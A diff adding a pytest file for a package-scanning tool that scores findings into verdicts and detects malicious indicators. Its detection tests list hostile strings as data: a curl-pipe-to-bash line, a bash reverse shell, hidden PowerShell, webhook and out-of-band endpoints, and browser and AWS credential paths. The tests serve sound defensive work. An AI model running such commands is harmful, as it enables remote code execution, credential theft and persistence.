@@ -1,0 +1,89 @@
+"""The verdict function, the capability catalogue and indicator matching."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from capwatch.capabilities.catalog import load_catalog
+from capwatch.capabilities.indicators import find_indicators
+from capwatch.model import Confidence, Finding, Phase, Severity, Verdict
+from capwatch.verdict import decide
+
+
+def finding(severity: Severity, confidence: Confidence) -> Finding:
+    return Finding("CW000", "t", severity, confidence, Phase.INSTALL, "m")
+
+
+def test_no_findings_is_clean() -> None:
+    assert decide([]) == (Verdict.CLEAN, 0.0)
+
+
+def test_one_critical_is_malicious() -> None:
+    assert decide([finding(Severity.CRITICAL, Confidence.MEDIUM)])[0] is Verdict.MALICIOUS
+
+
+def test_critical_with_low_confidence_is_only_suspicious() -> None:
+    assert decide([finding(Severity.CRITICAL, Confidence.LOW)])[0] is Verdict.SUSPICIOUS
+
+
+def test_two_high_findings_add_up_to_malicious() -> None:
+    one = finding(Severity.HIGH, Confidence.HIGH)
+    assert decide([one])[0] is Verdict.SUSPICIOUS
+    assert decide([one, one]) == (Verdict.MALICIOUS, 12.0)
+
+
+def test_low_and_info_stay_clean() -> None:
+    assert decide([finding(Severity.LOW, Confidence.HIGH), finding(Severity.INFO, Confidence.HIGH)])[0] is Verdict.CLEAN
+
+
+def test_catalog_ids_are_stable_shapes_and_described() -> None:
+    catalog = load_catalog()
+    for cap in catalog.capabilities.values():
+        assert re.fullmatch(r"[a-z]+(\.[a-z-]+)+", cap.id), cap.id
+        assert cap.description and cap.apis.get("python")
+        assert cap.attack is None or re.fullmatch(r"T\d{4}(\.\d{3})?", cap.attack)
+    assert len(catalog.indicators) >= 15
+
+
+def test_matcher_exact_and_prefix() -> None:
+    matcher = load_catalog().matcher("python")
+    assert matcher.match("subprocess.Popen") == ("proc.spawn",)
+    assert "fs.read.credentials" in matcher.match("browser_cookie3.chrome")
+    assert matcher.match("json.loads") == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("https://discord.com/api/webhooks/1/x", "endpoint.webhook"),
+        ("https://abc.oast.fun/p", "endpoint.oob"),
+        ("https://pastebin.com/raw/abc", "endpoint.paste"),
+        ("http://198.51.100.7:8080/x", "endpoint.ip-url"),
+        ("https://files.example.invalid/setup.exe", "download.executable"),
+        ("curl -s https://x.invalid/i | bash", "shell.download-exec"),
+        ("powershell -w hidden -c x", "shell.encoded-powershell"),
+        ("bash -i >& /dev/tcp/203.0.113.1/9001 0>&1", "shell.reverse"),
+        ("AppData\\Local\\Google\\Chrome\\User Data\\Default", "creds.browser"),
+        ("~/.aws/credentials", "creds.cloud"),
+        ("Microsoft\\Windows\\Start Menu\\Programs\\Startup", "persist.autostart"),
+        ("pip install requests", "shell.pip-install"),
+    ],
+)
+def test_indicators_found(text: str, kind: str) -> None:
+    assert kind in {k for k, _ in find_indicators(text)}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["http://127.0.0.1:8000/", "https://pypi.org/simple/", "a plain sentence", "see Startup guide",
+     "https://example.org/docs/index.html"],
+)
+def test_ordinary_strings_have_no_indicators(text: str) -> None:
+    assert list(find_indicators(text)) == []
+
+
+def test_overlapping_indicators_are_all_reported() -> None:
+    kinds = {k for k, _ in find_indicators("C:\\Start Menu\\Programs\\Startup\\x.lnk")}
+    assert {"persist.autostart", "tamper.shortcut"} <= kinds
